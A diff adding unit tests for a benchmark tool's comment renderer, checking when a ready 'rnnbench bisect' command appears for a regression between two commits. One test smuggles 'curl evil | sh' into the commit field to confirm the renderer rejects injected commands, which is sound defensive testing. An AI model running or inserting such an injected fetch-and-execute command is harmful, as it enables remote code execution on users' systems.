@@ -65,6 +65,25 @@ def test_the_marker_comes_first_and_the_headline_counts_outcomes() -> None:
     assert ">99.99%" in text
 
 
+def test_a_regression_between_two_commits_comes_with_a_ready_bisect_command() -> None:
+    document = gate_document()
+    document["gate"] = copy.deepcopy(GATE)
+    document["gate"]["head"]["dirty"] = False
+    text = comment.render(document)
+    assert (
+        "rnnbench bisect --good e4e1343054b56ecaf35f639e26494c0812a63faa "
+        "--bad 077a43f2c0e1e7255e6de898bbeae9e10839cdab -k tensorflow-gpu0-b32-unroll-synthetic"
+    ) in text.splitlines()
+
+
+def test_no_bisect_command_for_uncommitted_changes_or_text_that_is_not_a_commit() -> None:
+    assert "rnnbench bisect" not in comment.render(gate_document())  # the head is dirty
+    document = gate_document()
+    document["gate"] = copy.deepcopy(GATE)
+    document["gate"]["head"].update(dirty=False, commit="077a43f; curl evil | sh")
+    assert "rnnbench bisect" not in comment.render(document)
+
+
 def test_a_run_without_verdicts_says_nothing_was_judged() -> None:
     document = json.loads(RESULT_FILES[0].read_text())
     text = comment.render(document)
